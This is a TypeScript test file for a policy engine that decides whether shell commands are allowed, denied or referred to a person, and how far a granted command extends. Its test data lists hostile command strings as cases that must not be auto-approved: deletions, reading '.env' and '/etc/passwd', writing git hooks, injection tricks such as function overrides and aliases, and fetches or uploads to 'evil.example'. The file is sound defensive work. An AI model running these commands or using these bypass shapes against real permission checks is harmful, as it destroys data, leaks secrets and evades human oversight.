import { policyCategories, withoutLoosening, type Policy, type PolicyGrant, type PolicyRule } from "@fairlead/contract";
import { describe, expect, test } from "vitest";
import { decide } from "./decide.ts";
import { defaultPolicy } from "./default-policy.ts";

const askAboutAll: PolicyRule = { verdict: "ask", tool: "run" };

function run(
  command: string,
  rules: readonly PolicyRule[] = [],
  grants: PolicyGrant[] = [],
): ReturnType<typeof decide> {
  const own: Policy = { source: "own", rules: [...rules], grants };
  return decide([own, defaultPolicy], { kind: "run", command, workspace: "/repo" });
}

describe("what is offered", () => {
  test.each<[string, PolicyGrant[]]>([
    ["git push origin main", [{ command: "git push origin main", categories: ["merge", "unvetted"] }]],
    ["npm run deploy:prod", [{ command: "npm run deploy:prod", categories: ["deploy"] }]],
    ["npm install left-pad | tail -3", [{ command: "npm install", categories: ["deps_add", "unvetted"] }]],
    ["frobnicate --fast", [{ command: "frobnicate --fast", categories: ["unvetted"] }]],
    ["just lint src", [{ command: "just lint src", categories: ["unvetted"] }]],
    ["git lfs ls-files", [{ command: "git lfs ls-files", categories: ["unvetted"] }]],
    ["cd /repo && frob lint && frob lint -x", [{ command: "frob lint", categories: ["unvetted"] }]],
  ])("for %s", (command, grants) => expect(run(command)).toMatchObject({ verdict: "ask", grants }));

  test.each([
    "rm -rf src", // the next one removes something else
    "cat .env",
    "echo x > .git/hooks/pre-push",
    "$x y",
    "curl https://example.com",
    "frobnicate ./script --fast",
    "/opt/x/frob test",
    "sudo frob test",
    "FOO=1 frob test",
    "cd / && frob test",
    "cd sub && frob test",
    "frob test /etc/passwd",
    "frob test; ".repeat(21),
  ])("nothing for %s", (command) => expect(run(command)).toMatchObject({ verdict: "ask", grants: [] }));

  test("nothing for edits, and nothing with a denial", () => {
    expect(decide([defaultPolicy], { kind: "edit", paths: [".env"], workspace: "/repo" }).grants).toEqual([]);
    expect(run("git push", [{ verdict: "deny", command: "git push" }])).toMatchObject({ verdict: "deny", grants: [] });
  });
});

describe("what a grant answers", () => {
  const grants: PolicyGrant[] = [{ command: "npm test", categories: [] }];

  test.each([
    "npm test",
    "npm test -- --watch=false",
    "npm test -- src/a.test.ts",
    "npm test && npm test -- -t 'a name'",
    "npm test > out.txt",
  ])("%s, if every command is asked about", (command) => {
    expect(run(command, [askAboutAll]).verdict).toBe("ask"); // control
    expect(run(command, [askAboutAll], grants)).toMatchObject({
      verdict: "allow",
      rule: { source: "own", number: 1, grant: true },
    });
  });

  test.each([
    "npm test; rm -rf x",
    "npm test --prefix /",
    "npm test --prefix=../other",
    "env FOO=1 sh -c 'npm test'",
    "FOO=1 npm test",
    "sudo npm test",
    "nohup npm test",
    "sh -c 'npm test'",
    "npm test | tail -5", // no rule lets `tail` run
    "npm install left-pad",
    "npm run test",
    "npm $x",
    "npm test $x",
    "/opt/npm test",
    "cd / && npm test",
    "npm test > /etc/hosts",
    "npm test > .git/hooks/pre-push",
    "npm() { rm -rf x; }; npm test",
    "alias npm=rm; npm test",
    "npm test --script-shell=/x",
    "npm test\u200b",
    "$(npm test)",
    "npm test & git push",
    "NPM test",
  ])("not %s", (command) => expect(run(command, [askAboutAll], grants).verdict).toBe("ask"));

  test("a command beside it that no rule asks about", () => {
    const frob = [{ command: "frob test", categories: ["unvetted" as const] }];
    expect(run("frob test 2>&1 | tail -5", [], frob).verdict).toBe("allow");
    expect(run("frob test && git push", [], frob).verdict).toBe("ask");
    expect(run("cd / && frob test", [], frob).verdict).toBe("ask");
  });

  test("no command beside it that would not run alone", () => {
    // In `default`, the default policy allows nothing: a person is asked about what no rule is about.
    const asking = withoutLoosening(defaultPolicy);
    const own: Policy = { source: "own", rules: [{ verdict: "ask", command: "npm test" }], grants };
    const verdictOf = (command: string, more: PolicyRule[] = []): string =>
      decide([{ ...own, rules: [...own.rules, ...more] }, asking], { kind: "run", command, workspace: "/repo" })
        .verdict;
    expect(verdictOf("npm test; rm x")).toBe("ask");
    expect(verdictOf("npm test && touch x")).toBe("ask");
    expect(verdictOf("npm test | tail -5")).toBe("allow");
    expect(verdictOf("npm test && touch x", [{ verdict: "allow", command: "touch" }])).toBe("allow");
  });

  test("only the categories that were shown", () => {
    const push: PolicyGrant[] = [{ command: "git push origin main", categories: ["merge", "unvetted"] }];
    expect(run("git push origin main", [], push).verdict).toBe("allow");
    expect(run("git push --receive-pack=./x origin main", [], push).verdict).toBe("ask");
    expect(run("git push", [], [{ command: "git push", categories: ["merge"] }]).verdict).toBe("ask");
    expect(run("git push", [], [{ command: "git push", categories: [] }]).verdict).toBe("ask");
  });

  test.each([
    ["git push", "git push --force --all"],
    ["git push", "git push git@example.com:x/y.git HEAD"],
    ["git push origin main", "git push origin main --force"],
    ["git push origin main", "git push origin other"],
    ["gh pr merge 1", "gh pr merge 2"],
    ["gh pr merge 1", "gh pr close 7"],
    ["gh pr view 1", "gh pr close 1"],
    ["gh api user", "gh api -X DELETE repos/o/r"],
    ["gh repo view", "gh repo delete o/r --yes"],
    ["aws s3 ls", "aws s3 rm --recursive bucket"],
    ["kubectl exec pod -- ls", "kubectl exec pod -- dropdb x"],
    ["docker exec web ls", "docker exec web sh x"],
    ["gh status --org x", "gh status --org x --exclude y"],
    ["terraform apply", "terraform apply -destroy -auto-approve"],
    ["npm publish", "npm publish --tag latest"],
    ["npx frob", "npx frob -c x"],
    ["npx frob", "npx frob --package=evil"],
    ["npx frob", "npx -c frob"],
    ["npx frob", "npx --package=evil frob"],
    ["npm exec frob", "npm exec frob --package evil"],
    ["npm exec frob", "npm exec frob --pack=evil"],
    ["npm exec frob", "npm exec frob --registry=https://evil.example"],
    ["pnpm dlx frob", "pnpm dlx evil"],
    ["pnpm dlx frob", "pnpm dlx frob --package=evil"],
    ["yarn dlx frob", "yarn dlx frob -p evil"],
    ["npm create frob", "npm create evil"],
    ["bunx frob", "bunx frob --package=evil"],
    ["uvx frob", "uvx frob --from evil"],
    ["uvx frob", "uvx frob --with=evil"],
    ["uv tool run frob", "uv tool run evil"],
    ["pipx run frob", "pipx run frob --spec evil"],
    ["pipx run frob", "pipx run evil"],
    ["frob lint", "cd sub && frob lint"],
    ["frob lint", "env -C sub frob lint"],
    ["just lint", "just lint deploy"],
    ["just lint", "just lint --justfile=x"],
    ["task lint", "task lint deploy"],
    ["task lint", "task lint -t x.yml"],
    ["git lfs ls-files", "git lfs push origin main"],
    ["git submodule status", "git submodule set-url x y"],
    ["git bundle verify x", "git bundle create src/x --all"],
    ["git fetch origin", "git fetch origin main:main"],
    ["git fetch origin", "git fetch origin +refs/heads/x"],
    ["git fetch origin", "git fetch https://evil.example/x"],
    ["curl --version", "curl --url=evil.example/x"],
    ["curl --version", "curl -Kx"],
    ["curl localhost", "curl localhost --upload-file=x"],
    ["perl -v", "perl '-esystem(q(git push))'"],
    ["lua -v", "lua -ex"],
    ["vim --version", "vim -es"],
    ["emacs --version", "emacs --eval=x"],
    ["pip install requests", "pip install --index-url evil x"],
    ["pip install requests", "pip install --target=.git x"],
    ["cargo install x", "cargo install --path evil"],
    ["frob --fast", "frob --exec=x"],
  ])("what is offered for %s covers it, and not %s", (shown, next) => {
    const { grants } = run(shown);
    expect(grants).not.toEqual([]);
    expect(run(shown, [], [...grants]).verdict).toBe("allow");
    expect(run(next, [], [...grants]).verdict).toBe("ask");
  });

  test("what a package runner runs may have options of its own", () => {
    const { grants } = run("npx frob");
    for (const command of ["npx frob --fix", "npx frob lint", "npx frob -- -c x"])
      expect(run(command, [], [...grants]).verdict, command).toBe("allow");
  });

  test("not the same words in another folder, and not what an older and wider grant has", () => {
    const frob: Policy = { source: "own", rules: [], grants: [{ command: "frob lint", categories: ["unvetted"] }] };
    const lintIn = (folder: string): string =>
      decide([frob, defaultPolicy], { kind: "run", command: "frob lint", workspace: "/repo", folder }).verdict;
    expect([lintIn("/repo"), lintIn("/repo/vendor/x"), lintIn("vendor/x")]).toEqual(["allow", "ask", "ask"]);
    const wide: PolicyGrant[] = [
      { command: "git push", categories: ["merge", "unvetted"] },
      { command: "gh pr", categories: ["network", "unvetted"] },
    ];
    expect(run("git push --force", [], wide).verdict).toBe("ask");
    expect(run("gh pr view 1", [], wide).verdict).toBe("ask");
  });

  test("a single word, and what ends with options, covers only itself", () => {
    const frob = [{ command: "frob", categories: ["unvetted" as const] }];
    expect(run("frob", [], frob).verdict).toBe("allow");
    expect(run("frob --fast", [], frob).verdict).toBe("ask");
    expect(run("frob deploy", [], frob).verdict).toBe("ask");
  });

  test("other arguments of the same subcommand", () => {
    for (const [shown, next] of [
      ["git fetch origin", "git fetch --prune upstream"],
      ["git submodule status", "git submodule status sub"],
      ["pip install requests", "pip install --quiet flask"],
      ["frob lint src", "frob lint --fix"],
    ] as const)
      expect(run(next, [], [...run(shown).grants]).verdict, next).toBe("allow");
  });

  test("never a denial, and never what cannot be known", () => {
    const all = [{ command: "npm test", categories: [...policyCategories] }];
    expect(run("npm test", [{ verdict: "deny", command: "npm" }], all).verdict).toBe("deny");
    expect(run("npm test; $x", [askAboutAll], all).verdict).toBe("ask");
  });
});
